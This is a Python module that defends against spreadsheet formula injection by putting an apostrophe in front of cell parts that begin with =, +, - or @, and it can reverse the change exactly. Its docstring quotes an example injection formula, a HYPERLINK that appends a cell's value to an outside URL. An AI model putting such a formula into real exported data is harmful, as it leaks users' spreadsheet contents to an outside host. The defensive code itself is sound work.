"""Cells that a spreadsheet would run: `=HYPERLINK("http://elsewhere/" & A1)` in an example is a formula.

    >>> guarded("=1+1"), unguarded("'=1+1"), guarded("'=1+1"), guarded("it's; -1")
    ("'=1+1", '=1+1', "''=1+1", "it's;' -1")

An apostrophe in front makes a cell text. One more goes before those that have one already, so that `unguarded`
gives back every cell exactly. What follows a semicolon, a tab or a line break within a cell is treated as a
cell, too: a spreadsheet that separates cells by semicolons begins another one there, whatever the quotes.
"""

from __future__ import annotations

import re
import unicodedata

GUARD = "'"
_RUNS = frozenset("=+-@")
_PARTS = re.compile(r"([;\t\r\n])")


def guarded(cell: str) -> str:
    """Return a cell that a spreadsheet shows as it is."""
    return "".join(f"{GUARD}{part}" if _runs(part) else part for part in _PARTS.split(cell))


def unguarded(cell: str) -> str:
    """Return the cell that `guarded` was given."""
    parts = _PARTS.split(cell)
    return "".join(part[1:] if part.startswith(GUARD) and _runs(part) else part for part in parts)


def _runs(part: str) -> bool:
    """Tell whether a spreadsheet may take a part of a cell, without apostrophes in front of it, for a formula.

    White space, quotes and what cannot be seen are passed over, and full-width signs are signs, as for some.
    """
    passed = (c.isspace() or c == '"' or unicodedata.category(c) in {"Cc", "Cf"} for c in part.lstrip(GUARD))
    first = next((c for c, over in zip(part.lstrip(GUARD), passed, strict=True) if not over), "")
    return unicodedata.normalize("NFKC", first) in _RUNS
